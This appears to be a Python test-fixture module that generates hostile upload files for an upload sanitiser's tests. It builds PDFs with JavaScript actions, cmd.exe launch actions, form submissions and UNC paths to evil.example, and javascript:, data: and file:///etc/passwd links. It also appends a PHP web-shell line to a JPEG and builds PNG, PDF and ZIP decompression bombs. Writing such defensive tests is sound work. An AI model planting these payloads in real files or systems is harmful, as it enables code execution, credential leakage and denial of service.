"""A corpus of hostile files, made when it is asked for: nobody's virus scanner has anything to find in the repository.

`CASES` holds one `Case` each: what is sent, and what has to come of it. A case is refused with one of `refused`, or
it is taken and made inert, which `tests/uploads/looks.py` sees by reading the result on its own.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, PngImagePlugin

from core.errors import FileRejection

# Put together here, so that this very file is not taken for a virus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>document.title='ran'</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1">' + SCRIPT + b"</svg>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
CALL = "app.alert('ran')"

PDF = "application/pdf"
JPEG = "image/jpeg"
PNG = "image/png"
WEBP = "image/webp"
HEIC = "image/heic"

UNREADABLE: tuple[FileRejection, ...] = ("UNREADABLE",)
MISMATCH: tuple[FileRejection, ...] = ("CONTENT_DOES_NOT_MATCH_TYPE",)
NOT_ACCEPTED: tuple[FileRejection, ...] = ("TYPE_NOT_ACCEPTED",)
TOO_LARGE: tuple[FileRejection, ...] = ("TOO_LARGE",)


@dataclass(frozen=True)
class Case:
    """`name` and `media_type` as sent; `refused`: the reasons that it may be refused with, none where it is taken;
    `saved_as`: the name that it is kept under, where that matters."""

    title: str
    name: str
    media_type: str
    content: Callable[[], bytes]
    refused: tuple[FileRejection, ...] = ()
    saved_as: str | None = None


# Pictures.


def picture(size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Four plain rectangles: what is left of them after any encoding can be compared."""
    drawn = Image.new("RGB", size, (200, 30, 30))
    width, height = size
    drawn.paste((30, 160, 30), (width // 2, 0, width, height // 2))
    drawn.paste((30, 30, 200), (0, height // 2, width // 2, height))
    drawn.paste((240, 240, 240), (width // 2, height // 2, width, height))
    return drawn


def encoded(drawn: Image.Image, encoder: str, **options: object) -> bytes:
    content = BytesIO()
    drawn.save(content, encoder, **options)
    return content.getvalue()


def jpeg(**options: object) -> bytes:
    return encoded(picture(), "JPEG", **options)


def png(**options: object) -> bytes:
    return encoded(picture(), "PNG", **options)


def webp(**options: object) -> bytes:
    return encoded(picture(), "WEBP", **options)


def heic() -> bytes:
    import pillow_heif

    content = BytesIO()
    pillow_heif.from_pillow(picture()).save(content)
    return content.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(*chunks: bytes) -> bytes:
    """A small PNG, with these chunks after its header."""
    content = png()
    return content[:33] + b"".join(chunks) + content[33:]


def png_of_size(width: int, height: int) -> bytes:
    """A header of that size, and next to no pixels."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + png_chunk(b"IDAT", zlib.compress(bytes(4096)))
        + png_chunk(b"IEND", b"")
    )


def png_bomb(side: int) -> bytes:
    """All the pixels of a black square, though they take next to nothing: one bit each."""
    deflate = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    rows = b"".join(deflate.compress(row * 100) for _ in range(side // 100)) + deflate.flush()
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def jpeg_of_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims another size."""
    content = bytearray(jpeg())
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def webp_of_size(width: int, height: int) -> bytes:
    content = encoded(picture(), "WEBP", lossless=True, exif=b"Exif\0\0II*\0")
    at = content.index(b"VP8X") + 12
    return (
        content[:at]
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
        + content[at + 6 :]
    )


def jpeg_with_segment(marker: int, data: bytes) -> bytes:
    content = jpeg()
    return content[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data + content[2:]


def exif(**fields: object) -> Image.Exif:
    metadata = Image.Exif()
    metadata[0x010E] = SCRIPT.decode()  # ImageDescription
    metadata[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)}  # GPS
    metadata[0x013B] = "Camille Exemple"  # Artist
    return metadata


def jpeg_with_exif() -> bytes:
    return jpeg(exif=exif().tobytes(), comment=SCRIPT)


def animated(encoder: str) -> bytes:
    frames = [Image.new("RGB", (64, 48), colour) for colour in ("blue", "red")]
    return encoded(picture(), encoder, save_all=True, append_images=frames, duration=50)


def mpo() -> bytes:
    return encoded(picture(), "MPO", save_all=True, append_images=[Image.new("RGB", (64, 48), "blue")])


def text_bomb(kind: bytes) -> bytes:
    bomb = zlib.compress(bytes(64 * 1024 * 1024), 9)
    if kind == b"iTXt":
        return png_with(png_chunk(kind, b"Comment\0\x01\0\0\0" + bomb))
    return png_with(png_chunk(kind, b"Comment\0\0" + bomb))


def png_text(text: bytes) -> bytes:
    information = PngImagePlugin.PngInfo()
    information.add_text("Comment", text.decode())
    information.add_itxt("XML:com.adobe.xmp", text.decode())
    return png(pnginfo=information)


# Archives.


def archive(members: Mapping[str, bytes]) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in members.items():
            written.writestr(name, data)
    return content.getvalue()


def word_document() -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def open_document() -> bytes:
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"})


def java_archive() -> bytes:
    return archive({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"})


def zip_bomb() -> bytes:
    return archive({f"{number}.bin": bytes(4 * 1024 * 1024) for number in range(4)})


# PDFs.


def script(**more: object) -> Dictionary:
    return Dictionary(
        {"/S": Name.JavaScript, "/JS": String(CALL)} | {f"/{key}": value for key, value in more.items()}
    )


def new_pdf(pages: int = 1) -> Pdf:
    """Pages that say « Bonjour 1 », « Bonjour 2 »… in Helvetica."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (Bonjour %d) Tj ET" % number)
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    content = BytesIO()
    pdf.save(content, **options)  # type: ignore[arg-type]
    return content.getvalue()


def pdf(pages: int = 1) -> bytes:
    return saved(new_pdf(pages))


def pdf_where(change: Callable[[Pdf], object], **options: object) -> bytes:
    made = new_pdf()
    change(made)
    return saved(made, **options)


def annotate(pdf: Pdf, **entries: object) -> pikepdf.Object:
    """A link on the first page, unless `entries` say otherwise."""
    annotation = Dictionary(
        {"/Type": Name.Annot, "/Subtype": Name.Link, "/Rect": Array([72, 600, 300, 650])}
        | {f"/{key}": value for key, value in entries.items()}
    )
    page = pdf.pages[0].obj
    annotations = page.get("/Annots", Array([]))
    annotations.append(pdf.make_indirect(annotation))
    page["/Annots"] = annotations
    return annotations[len(annotations) - 1]


def action(kind: str, **entries: object) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}")} | {f"/{key}": value for key, value in entries.items()})


def file_specification(pdf: Pdf) -> Dictionary:
    stream = pdf.make_stream(b"MZ" + EICAR, Type=Name.EmbeddedFile, Subtype=Name("/application#2Fexe"))
    return Dictionary(
        Type=Name.Filespec, F=String("a.exe"), UF=String("a.exe"), EF=Dictionary(F=stream, UF=stream)
    )


def in_root(key: str, make: Callable[[Pdf], object]) -> Callable[[Pdf], object]:
    def change(pdf: Pdf) -> None:
        pdf.Root[f"/{key}"] = make(pdf)

    return change


def in_names(tree: str, make: Callable[[Pdf], object]) -> Callable[[Pdf], object]:
    def change(pdf: Pdf) -> None:
        pdf.Root.Names = Dictionary({f"/{tree}": Dictionary(Names=Array([String("a"), make(pdf)]))})

    return change


def in_page(key: str, make: Callable[[Pdf], object]) -> Callable[[Pdf], object]:
    def change(pdf: Pdf) -> None:
        pdf.pages[0].obj[f"/{key}"] = make(pdf)

    return change


def linked(make: Callable[[Pdf], object]) -> Callable[[Pdf], object]:
    return lambda pdf: annotate(pdf, A=make(pdf))


def with_field(**entries: Callable[[Pdf], object]) -> Callable[[Pdf], object]:
    def change(pdf: Pdf) -> None:
        made = {key: make(pdf) for key, make in entries.items()}
        field = annotate(pdf, **{"Subtype": Name.Widget, "FT": Name.Tx, "T": String("nom")} | made)
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return change


def with_xfa(pdf: Pdf) -> None:
    with_field()(pdf)
    template = b"<xdp><template><script>app.alert(1)</script></template></xdp>"
    pdf.Root.AcroForm.XFA = Array([String("template"), pdf.make_stream(template)])
    pdf.Root.NeedsRendering = True


def with_outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Page"), A=script()))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def with_chain(pdf: Pdf) -> None:
    """A harmless action that a script follows, five deep."""
    chain = script()
    for _ in range(5):
        chain = action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=chain)
    annotate(pdf, A=chain)
    pdf.Root.OpenAction = pdf.make_indirect(chain)


def with_indirect_names(pdf: Pdf) -> None:
    """The kind of an action, and its script, each an object of its own."""
    kind = pdf.make_indirect(Name.JavaScript)
    code = pdf.make_stream(CALL.encode())
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary({"/S": kind, "/JS": code}))
    annotate(pdf, A=pdf.make_indirect(Dictionary({"/S": kind, "/JS": code})))


def with_hidden_object(pdf: Pdf) -> None:
    """A script where no reader looks, deep in direct objects of a page."""
    deep: object = script()
    for _ in range(40):
        deep = Array([Dictionary(X=deep)])
    pdf.pages[0].obj.Hidden = deep


def with_structure_script(pdf: Pdf) -> None:
    element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, A=script()))
    pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=element))
    element.P = pdf.Root.StructTreeRoot


def with_metadata(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = String("Camille Exemple")
    pdf.Root.Metadata = pdf.make_stream(
        b"<x:xmpmeta>Camille Exemple</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML
    )
    pdf.pages[0].obj.PieceInfo = Dictionary(Private=Dictionary(Data=String("Camille Exemple")))


def with_signature(pdf: Pdf) -> None:
    with_field(
        FT=lambda _: Name.Sig, V=lambda _: Dictionary(ByteRange=Array([0, 1, 2, 3]), Contents=String("00"))
    )(pdf)
    pdf.Root.Perms = Dictionary(DocMDP=pdf.Root.AcroForm.Fields[0].V)


def javascript_by_hex_names() -> bytes:
    """The table of places no longer holds, either: readers repair that, and so do we."""
    plain = pdf_where(
        in_root("OpenAction", lambda _: script()), object_stream_mode=pikepdf.ObjectStreamMode.disable
    )
    return plain.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/J#53")


def encrypted(user: str) -> bytes:
    made = new_pdf()
    made.Root.OpenAction = script()
    return saved(made, encryption=pikepdf.Encryption(owner="owner", user=user))


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Objects 1, 2, 3… as written, 1 being the catalog, with a table of where they are."""
    written = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    content = bytes(written)
    start = len(content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        content
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def page_tree_loop() -> bytes:
    return raw_pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def page_tree_grandparent_loop() -> bytes:
    return raw_pdf(CATALOG, PAGES, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")


def object_loop() -> bytes:
    return raw_pdf(
        CATALOG,
        PAGES,
        PAGE[:-2] + b"/Annots 4 0 R /A 4 0 R >>",
        b"[ 4 0 R 5 0 R ]",
        b"<< /X 5 0 R /A 5 0 R >>",
    )


def action_loop() -> bytes:
    return raw_pdf(
        CATALOG[:-2] + b"/OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 5 0 R] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next 4 0 R >>",
    )


def deep_nesting(depth: int) -> bytes:
    return raw_pdf(CATALOG, PAGES, PAGE[:-2] + b"/X " + b"[" * depth + b"]" * depth + b" >>")


def cross_reference_loop() -> bytes:
    content = raw_pdf(CATALOG, PAGES, PAGE)
    start = content.index(b"xref\n")
    return content.replace(b"/Root", b"/Prev %d /Root" % start)


def cross_reference_far_away() -> bytes:
    content = raw_pdf(CATALOG, PAGES, PAGE)
    start = content.index(b"xref\n")
    return content.replace(b"startxref\n%d" % start, b"startxref\n99999999999")


def flate_bomb(layers: int, unit: int = 300 * 1024 * 1024) -> bytes:
    """A content stream of 300 MB of spaces, deflated so many times."""
    deflate = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    data = b"".join(deflate.compress(chunk) for _ in range(unit // len(chunk))) + deflate.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    filters = b"[" + b"/FlateDecode " * layers + b"]"
    stream = b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(data), filters, data)
    return raw_pdf(CATALOG, PAGES, PAGE[:-2] + b"/Contents 4 0 R >>", stream)


def run_length_bomb() -> bytes:
    """Inflated and then expanded by runs, in the order that a reader undoes them."""
    data = zlib.compress(zlib.compress(b"\x81 " * 5_000_000, 9).hex().encode() + b">", 9)
    filters = b"[/FlateDecode /ASCIIHexDecode /FlateDecode /RunLengthDecode]"
    stream = b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(data), filters, data)
    return raw_pdf(CATALOG, PAGES, PAGE[:-2] + b"/Contents 4 0 R >>", stream)


def many_pages(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + pages))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)
    return raw_pdf(CATALOG, tree, *[PAGE] * pages)


def earlier_revision() -> bytes:
    """An update without the script that the first revision has: both are in the file."""
    first = raw_pdf(
        CATALOG[:-2] + b"/OpenAction 4 0 R >>", PAGES, PAGE, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    )
    place, previous = len(first), first.rindex(b"xref\n0")
    update = first + b"1 0 obj\n%s\nendobj\n" % CATALOG
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\n" % (place, previous)
    return update + table + b"startxref\n%d\n%%%%EOF\n" % (len(update))


def update_with_script() -> bytes:
    first = raw_pdf(CATALOG, PAGES, PAGE)
    place, previous = len(first), first.rindex(b"xref\n0")
    update = first + b"1 0 obj\n%s\nendobj\n" % (
        CATALOG[:-2] + b"/OpenAction << /S /JavaScript /JS (1) >> >>"
    )
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n" % (place, previous)
    return update + table + b"startxref\n%d\n%%%%EOF\n" % (len(update))


def external_stream() -> bytes:
    stream = b"<< /Length 0 /F (\\\\\\\\evil.example\\\\a) /FFilter /FlateDecode >>\nstream\n\nendstream"
    return raw_pdf(CATALOG, PAGES, PAGE[:-2] + b"/Contents 4 0 R >>", stream)


def truncated(content: bytes, part: float) -> bytes:
    return content[: int(len(content) * part)]


def _pdf_cases() -> list[Case]:
    def case(title: str, change: Callable[[Pdf], object], **options: object) -> Case:
        return Case(f"PDF with {title}", "piece.pdf", PDF, lambda: pdf_where(change, **options))

    compressed = pikepdf.ObjectStreamMode.generate
    scripts = [
        case("a script when it opens", in_root("OpenAction", lambda _: script())),
        case(
            "a script when it opens, in an object stream", with_indirect_names, object_stream_mode=compressed
        ),
        case("a script in a stream of its own", with_indirect_names),
        case("a script before it closes", in_root("AA", lambda _: Dictionary(WC=script(), WP=script()))),
        case("a script when a page is shown", in_page("AA", lambda _: Dictionary(O=script(), C=script()))),
        case("a script of a link", linked(lambda _: script())),
        case("a script of a link's own events", lambda pdf: annotate(pdf, AA=Dictionary(E=script()))),
        case("a script of a link's first action", lambda pdf: annotate(pdf, PA=script())),
        case("a script of a field", with_field(AA=lambda _: Dictionary(K=script(), F=script(), V=script()))),
        case("a script of a button", with_field(A=lambda _: script(), FT=lambda _: Name.Btn)),
        case("a script by name", in_names("JavaScript", lambda _: script())),
        case("a script in its outline", with_outline),
        case("a script in its outline, in an object stream", with_outline, object_stream_mode=compressed),
        case("a script after other actions", with_chain),
        case("a script in the structure tree", with_structure_script),
        case("a script where nobody looks", with_hidden_object),
        case(
            "a script of a page's steps", in_page("PresSteps", lambda _: Dictionary(NA=script(), PA=script()))
        ),
        case(
            "a script in an unused object",
            lambda pdf: pdf.trailer.__setitem__("/Unused", pdf.make_indirect(script())),
        ),
        case("a script of a rendition", linked(lambda _: action("Rendition", JS=String(CALL), OP=0))),
        case(
            "a script whose kind is a string",
            in_root("OpenAction", lambda _: Dictionary({"/S": String("JavaScript"), "/JS": String(CALL)})),
        ),
        case(
            "a script to launch whose kind is a string",
            linked(lambda _: Dictionary({"/S": String("Launch"), "/F": String("cmd.exe")})),
        ),
        case(
            "a script after a way to a page",
            linked(lambda pdf: action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([script()]))),
        ),
        case("a script in a list of actions", lambda pdf: annotate(pdf, A=Array([script(), script()]))),
        case(
            "an action that is a stream",
            lambda pdf: annotate(pdf, A=pdf.make_stream(b"1", S=Name.JavaScript, JS=String(CALL))),
        ),
        case(
            "a script in a note's text",
            lambda pdf: annotate(pdf, Subtype=Name.FreeText, RC=String(SCRIPT.decode())),
        ),
        case("an XFA form", with_xfa),
    ]
    actions = [
        case("a program to launch", linked(lambda _: action("Launch", F=String("cmd.exe")))),
        case(
            "a program to launch when it opens",
            in_root("OpenAction", lambda _: action("Launch", Win=Dictionary(F=String("cmd.exe")))),
        ),
        case("a form to submit", linked(lambda _: action("SubmitForm", F=String("http://evil.example/")))),
        case("data to import", linked(lambda _: action("ImportData", F=String("a.fdf")))),
        case(
            "a way to another file",
            linked(lambda _: action("GoToR", F=String("\\\\evil.example\\a"), D=Array([0, Name.Fit]))),
        ),
        case(
            "a way to an embedded file",
            linked(lambda _: action("GoToE", T=Dictionary(R=Name.C, N=String("a")))),
        ),
        case("an embedded program", in_names("EmbeddedFiles", file_specification)),
        case("an associated file", in_root("AF", lambda pdf: Array([file_specification(pdf)]))),
        case(
            "an attachment on a page",
            lambda pdf: annotate(pdf, Subtype=Name.FileAttachment, FS=file_specification(pdf)),
        ),
        case("a portfolio", in_root("Collection", lambda _: Dictionary(Type=Name.Collection, View=Name.T))),
        case(
            "a film",
            lambda pdf: annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("a.mov")), A=True),
        ),
        case(
            "a sound",
            lambda pdf: annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(b"0", Type=Name.Sound)),
        ),
        case(
            "rich media",
            lambda pdf: annotate(
                pdf,
                Subtype=Name.RichMedia,
                RichMediaContent=Dictionary(
                    Assets=Dictionary(Names=Array([String("a.swf"), file_specification(pdf)]))
                ),
            ),
        ),
        case("a screen", lambda pdf: annotate(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0))),
        case(
            "three dimensions",
            lambda pdf: annotate(
                pdf,
                Subtype=Name("/3D"),
                **{
                    "3DD": pdf.make_stream(
                        b"U3D", Type=Name("/3D"), Subtype=Name.U3D, OnInstantiate=pdf.make_stream(b"1")
                    )
                },
            ),
        ),
        case("a javascript: link", linked(lambda _: action("URI", URI=String("javascript:alert(1)")))),
        case("a JaVaScRiPt: link", linked(lambda _: action("URI", URI=String(" JaVa\tScRiPt:alert(1)")))),
        case("a file: link", linked(lambda _: action("URI", URI=String("file:///etc/passwd")))),
        case(
            "a data: link",
            linked(lambda _: action("URI", URI=String("data:text/html,<script>alert(1)</script>"))),
        ),
        case("a base for its links", in_root("URI", lambda _: Dictionary(Base=String("javascript:")))),
        case(
            "a print dialogue when it opens", in_root("OpenAction", lambda _: action("Named", N=Name.Print))
        ),
        case(
            "a PostScript object",
            in_page(
                "Resources",
                lambda pdf: Dictionary(
                    XObject=Dictionary(X=pdf.make_stream(b"deletefile", Type=Name.XObject, Subtype=Name.PS))
                ),
            ),
        ),
        case("metadata", with_metadata),
        case("a signature", with_signature),
    ]
    return (
        scripts
        + actions
        + [
            Case("PDF with names written in hexadecimal", "a.pdf", PDF, javascript_by_hex_names),
            Case("PDF encrypted with an empty password", "a.pdf", PDF, partial(encrypted, "")),
            Case("PDF that needs a password", "a.pdf", PDF, partial(encrypted, "secret"), UNREADABLE),
            Case("PDF whose page tree is a loop", "a.pdf", PDF, page_tree_loop, UNREADABLE),
            Case(
                "PDF whose page tree is a longer loop", "a.pdf", PDF, page_tree_grandparent_loop, UNREADABLE
            ),
            Case("PDF whose objects are loops", "a.pdf", PDF, object_loop),
            Case("PDF whose actions are loops", "a.pdf", PDF, action_loop),
            Case("PDF nested 300 deep", "a.pdf", PDF, partial(deep_nesting, 300)),
            Case("PDF nested 100000 deep", "a.pdf", PDF, partial(deep_nesting, 100_000), UNREADABLE),
            Case("PDF whose tables of places are a loop", "a.pdf", PDF, cross_reference_loop),
            Case("PDF whose table of places is far away", "a.pdf", PDF, cross_reference_far_away),
            Case("PDF that expands to 300 MB", "a.pdf", PDF, partial(flate_bomb, 1), TOO_LARGE),
            Case("PDF deflated thrice", "a.pdf", PDF, partial(flate_bomb, 3), TOO_LARGE),
            Case("PDF that expands by runs", "a.pdf", PDF, run_length_bomb, ("TOO_LARGE", "UNREADABLE")),
            Case("PDF with an earlier revision", "a.pdf", PDF, earlier_revision),
            Case("PDF with an update that adds a script", "a.pdf", PDF, update_with_script),
            Case("PDF with a stream in another file", "a.pdf", PDF, external_stream),
            Case("PDF of 501 pages", "a.pdf", PDF, partial(many_pages, 501), TOO_LARGE),
            Case(
                "PDF of 200000 objects",
                "a.pdf",
                PDF,
                lambda: raw_pdf(CATALOG, PAGES, PAGE, *[b"0"] * 200_000),
                UNREADABLE,
            ),
            Case("PDF without pages", "a.pdf", PDF, lambda: saved(Pdf.new()), UNREADABLE),
            Case(
                "PDF in name and first bytes only",
                "a.pdf",
                PDF,
                lambda: b"%PDF-1.7\n" + EICAR + b"\n%%EOF\n",
                UNREADABLE,
            ),
            Case("PDF cut off after a tenth", "a.pdf", PDF, lambda: truncated(pdf(3), 0.1), UNREADABLE),
            Case("PDF cut off in the middle", "a.pdf", PDF, lambda: truncated(pdf(3), 0.5), UNREADABLE),
            Case("PDF cut off near its end", "a.pdf", PDF, lambda: truncated(pdf(3), 0.97), UNREADABLE),
            Case("PDF with an archive after it", "a.pdf", PDF, lambda: pdf() + java_archive()),
            Case(
                "PDF with an archive and 2 kB of rubbish after it",
                "a.pdf",
                PDF,
                lambda: pdf() + archive({"a": b"a"}) + bytes(range(256)) * 8,
                UNREADABLE,
            ),
            Case("PDF with a page of HTML after it", "a.pdf", PDF, lambda: pdf() + HTML),
            Case(
                "PDF with a page of HTML in its first lines",
                "a.pdf",
                PDF,
                lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1),
            ),
            Case("PDF after a page of HTML", "a.pdf", PDF, lambda: HTML + pdf(), MISMATCH),
        ]
    )


def _picture_cases() -> list[Case]:
    return [
        Case("JPEG with a script and a place in its EXIF", "a.jpg", JPEG, jpeg_with_exif),
        Case("JPEG with a script in its comment", "a.jpg", JPEG, partial(jpeg_with_segment, 0xFE, SCRIPT)),
        Case(
            "JPEG with XMP",
            "a.jpg",
            JPEG,
            partial(jpeg_with_segment, 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT),
        ),
        Case(
            "JPEG with broken EXIF",
            "a.jpg",
            JPEG,
            partial(jpeg_with_segment, 0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + EICAR),
        ),
        Case("JPEG with a colour profile of rubbish", "a.jpg", JPEG, lambda: jpeg(icc_profile=SCRIPT * 40)),
        Case(
            "JPEG with a preview in its IPTC",
            "a.jpg",
            JPEG,
            partial(jpeg_with_segment, 0xED, b"Photoshop 3.0\0" + SCRIPT),
        ),
        Case("JPEG with an archive after it", "a.jpg", JPEG, lambda: jpeg() + java_archive()),
        Case(
            "JPEG with PHP after it", "a.jpg", JPEG, lambda: jpeg() + b"<?php system($_GET['c']); ?>" + SCRIPT
        ),
        Case("JPEG with EICAR after it", "a.jpg", JPEG, lambda: jpeg() + EICAR),
        Case("JPEG of several pictures", "a.jpg", JPEG, mpo),
        Case(
            "JPEG that claims 65000 by 65000", "a.jpg", JPEG, partial(jpeg_of_size, 65000, 65000), TOO_LARGE
        ),
        Case("JPEG that claims 30000 by 10", "a.jpg", JPEG, partial(jpeg_of_size, 30000, 10), TOO_LARGE),
        Case("JPEG that claims no width", "a.jpg", JPEG, partial(jpeg_of_size, 0, 10), UNREADABLE),
        Case("JPEG cut off after its header", "a.jpg", JPEG, lambda: jpeg()[:200], UNREADABLE),
        Case("JPEG cut off in its pixels", "a.jpg", JPEG, lambda: jpeg()[:-40], UNREADABLE),
        Case(
            "JPEG of two bytes and a comment",
            "a.jpg",
            JPEG,
            lambda: b"\xff\xd8\xff\xfe\x00\x30" + SCRIPT,
            UNREADABLE,
        ),
        Case(
            "GIF that is a script, as JPEG",
            "a.jpg",
            JPEG,
            lambda: b"GIF89a/*" + bytes(300) + b"*/=1;alert(1)",
            MISMATCH,
        ),
        Case("PNG of 50000 by 50000", "a.png", PNG, partial(png_of_size, 50000, 50000), TOO_LARGE),
        Case("PNG of 10000 by 10000, with all its pixels", "a.png", PNG, partial(png_bomb, 10000), TOO_LARGE),
        Case(
            "PNG of two thousand million pixels across",
            "a.png",
            PNG,
            partial(png_of_size, 2_000_000_000, 1),
            TOO_LARGE,
        ),
        Case("PNG that lacks its pixels", "a.png", PNG, partial(png_of_size, 3000, 3000), UNREADABLE),
        Case("PNG with an iTXt bomb", "a.png", PNG, partial(text_bomb, b"iTXt"), UNREADABLE),
        Case("PNG with a zTXt bomb", "a.png", PNG, partial(text_bomb, b"zTXt"), UNREADABLE),
        Case("PNG with a script in its texts", "a.png", PNG, partial(png_text, SCRIPT)),
        Case(
            "PNG with a script in a private chunk", "a.png", PNG, lambda: png_with(png_chunk(b"evIl", SCRIPT))
        ),
        Case("PNG with EXIF", "a.png", PNG, lambda: png(exif=exif().tobytes())),
        Case("PNG with a colour profile of rubbish", "a.png", PNG, lambda: png(icc_profile=SCRIPT * 40)),
        Case("PNG with an archive after it", "a.png", PNG, lambda: png() + java_archive()),
        Case("PNG with a page of HTML after it", "a.png", PNG, lambda: png() + HTML),
        Case("PNG that moves", "a.png", PNG, partial(animated, "PNG")),
        Case("PNG with a wrong sum", "a.png", PNG, lambda: png()[:29] + b"\0\0\0\0" + png()[33:], UNREADABLE),
        Case("PNG cut off", "a.png", PNG, lambda: truncated(png(), 0.7), UNREADABLE),
        Case(
            "WebP that claims 16383 by 16383",
            "a.webp",
            WEBP,
            partial(webp_of_size, 16383, 16383),
            ("TOO_LARGE", "UNREADABLE"),
        ),
        Case(
            "WebP with a script in its EXIF", "a.webp", WEBP, lambda: webp(exif=exif().tobytes(), xmp=SCRIPT)
        ),
        Case("WebP that moves", "a.webp", WEBP, partial(animated, "WEBP")),
        Case("WebP with a page of HTML after it", "a.webp", WEBP, lambda: webp() + HTML),
        Case("WebP cut off", "a.webp", WEBP, lambda: truncated(webp(), 0.5), UNREADABLE),
        Case("HEIC cut off", "a.heic", HEIC, lambda: truncated(heic(), 0.8), UNREADABLE),
        Case(
            "HEIC with a script after it",
            "a.heic",
            HEIC,
            lambda: heic() + png_chunk(b"free", SCRIPT),
            saved_as="a.jpg",
        ),
        Case("HEIC that is a header only", "a.heic", HEIC, lambda: heic()[:40], UNREADABLE),
    ]


def _disguise_cases() -> list[Case]:
    svgs = [
        Case(f"SVG with a script as {extension}", f"a.{extension}", media_type, lambda: SVG, MISMATCH)
        for extension, media_type in (
            ("pdf", PDF),
            ("jpg", JPEG),
            ("png", PNG),
            ("webp", WEBP),
            ("heic", HEIC),
        )
    ]
    archives = [
        Case(f"{title} as PDF", "a.pdf", PDF, content, MISMATCH)
        for title, content in (
            ("ZIP", lambda: archive({"a": b"a"})),
            ("Word document", word_document),
            ("OpenDocument", open_document),
            ("Java archive", java_archive),
            ("ZIP bomb", zip_bomb),
